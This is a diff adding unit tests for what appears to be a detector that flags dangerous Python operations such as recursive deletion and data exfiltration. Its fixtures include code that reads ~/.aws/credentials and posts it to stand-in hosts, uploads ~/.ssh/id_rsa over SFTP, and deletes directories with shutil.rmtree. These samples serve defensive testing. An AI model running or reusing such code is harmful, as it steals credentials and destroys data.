@@ -391,3 +391,161 @@ def test_a_file_appearing_where_a_glob_looks_drops_the_cached_result(tmp_path: P
     assert blocked() == [] and blocked() == []          # the second answer comes from the cache
     (tmp_path / "migrations" / "0002.sql").write_text(DROP_SQL, encoding="utf-8")
     assert blocked() == ["sql.drop-table"]
+
+
+REGISTRY = '''
+import argparse
+import os
+import shutil
+
+TASKS = {}
+
+
+def task(name):
+    def wrap(fn):
+        TASKS[name] = fn
+        return fn
+    return wrap
+
+
+@task("wipe")
+def wipe(path):
+    shutil.rmtree(path)
+
+
+@task("show")
+def show(path):
+    print(os.listdir(path))
+
+
+args = argparse.ArgumentParser().parse_args()
+TASKS[args.cmd]("/var/lib/app")
+TASKS["show"]("/var/lib/app")
+for name, fn in TASKS.items():
+    fn("/opt/cache")
+'''
+
+
+def test_a_decorator_that_fills_a_registry_makes_calls_through_it_reach_the_function() -> None:
+    found = [(op.location.line, op.targets, op.detail("via")) for op in run(REGISTRY).operations
+             if op.rule == "py.fs-delete-tree"]
+    # The body on its own, once where it is written; then each call that names the folder.
+    assert found == [(18, ("path",), None), (27, ("/var/lib/app",), "wipe"), (30, ("/opt/cache",), "wipe")]
+
+
+def test_a_registry_key_naming_a_harmless_task_reaches_only_that_task() -> None:
+    assert at(REGISTRY, 28) == []
+
+
+def test_a_registry_filled_by_the_functions_own_name_is_followed_too() -> None:
+    text = REGISTRY.replace("TASKS[name] = fn", "TASKS[fn.__name__] = fn").replace(
+        'TASKS[args.cmd]("/var/lib/app")', 'TASKS["wipe"]("/srv/data")')
+    assert [op.targets for op in at(text, 27, "py.fs-delete-tree")] == [("/srv/data",)]
+    assert at(text, 28) == []
+
+
+CLASSMETHOD_CONFIG = '''
+import os
+from dataclasses import dataclass
+
+import requests
+
+
+@dataclass
+class AppConfig:
+    url: str
+
+    @classmethod
+    def from_env(cls):
+        return cls(url=os.environ.get("MONITOR_URL", "https://hooks.example.net/x"))
+
+    def describe(self):
+        return self.url
+
+
+rows = open(os.path.expanduser("~/.aws/credentials")).read()
+cfg = AppConfig.from_env()
+requests.post(cfg.url, json=rows)
+'''
+
+
+def test_cls_called_in_a_classmethod_makes_an_instance_with_those_fields() -> None:
+    assert [op.detail("host") for op in at(CLASSMETHOD_CONFIG, 22, "py.exfil-request")] == [
+        "https://hooks.example.net"]
+
+
+def test_a_classmethod_default_of_localhost_names_localhost() -> None:
+    text = CLASSMETHOD_CONFIG.replace("https://hooks.example.net/x", "http://localhost:9000/x")
+    assert [op.detail("host") for op in at(text, 22, "py.exfil-request")] == ["http://localhost:9000"]
+
+
+def test_an_instance_method_is_not_taken_for_a_class_constructor() -> None:
+    # describe() takes the instance: called on the class it is no constructor, and gives no host.
+    text = CLASSMETHOD_CONFIG.replace("cfg = AppConfig.from_env()\nrequests.post(cfg.url,",
+                                      "requests.post(AppConfig.describe(),")
+    assert [op.detail("host") for op in at(text, 21, "py.exfil-request")] == [None]
+
+
+ENV_URL = '''
+import os
+import requests
+
+URL = os.environ.get("URL", "https://collector.example.net/in")
+rows = open(os.path.expanduser("~/.aws/credentials")).read()
+requests.post(URL, data=rows)
+'''
+
+
+def test_an_environment_default_is_the_host_a_request_may_go_to() -> None:
+    found = at(ENV_URL, 7, "py.exfil-request")
+    assert [op.detail("host") for op in found] == ["https://collector.example.net"]
+    assert "to https://collector.example.net" in found[0].message
+
+
+def test_a_url_that_may_name_either_of_two_hosts_names_neither() -> None:
+    text = ENV_URL.replace('os.environ.get("URL", "https://collector.example.net/in")',
+                           '"https://a.example.net/in" if os.environ.get("A") else "https://b.example.net/in"')
+    assert [op.detail("host") for op in at(text, 7, "py.exfil-request")] == [None]
+
+
+def test_an_allowed_default_host_lets_the_policy_allow_the_send() -> None:
+    allowed = ENV_URL.replace("https://collector.example.net/in", "http://localhost:8080/in")
+    decide = Checker(load_policy(), Context())
+    assert [f.action for f in decide.check_text(allowed, "python", "unit.py").findings
+            if f.operation.rule == "py.exfil-request"] == ["allow"]
+    assert [f.action for f in decide.check_text(ENV_URL, "python", "unit.py").findings
+            if f.operation.rule == "py.exfil-request"] == ["block"]
+
+
+SSH_CONFIG = '''
+import os
+from dataclasses import dataclass
+
+import paramiko
+
+
+@dataclass
+class DeployConfig:
+    host: str = os.environ.get("BACKUP_HOST", "backup.example.org")
+
+
+class Deployer:
+    def __init__(self, config: DeployConfig):
+        self.config = config
+        self.ssh = paramiko.SSHClient()
+
+    def push_key(self, remote):
+        local_key = os.path.expanduser("~/.ssh/id_rsa")
+        self.ssh.connect(self.config.host)
+        sftp = self.ssh.open_sftp()
+        sftp.put(local_key, remote)
+'''
+
+
+def test_an_sftp_send_goes_to_the_host_the_config_field_connects_to() -> None:
+    assert [op.detail("host") for op in at(SSH_CONFIG, 22, "py.exfil-upload")] == ["backup.example.org"]
+
+
+def test_an_sftp_send_to_a_config_field_of_localhost_names_localhost() -> None:
+    text = SSH_CONFIG.replace('"backup.example.org"', '"localhost"')
+    assert [op.detail("host") for op in at(text, 22, "py.exfil-upload")] == ["localhost"]
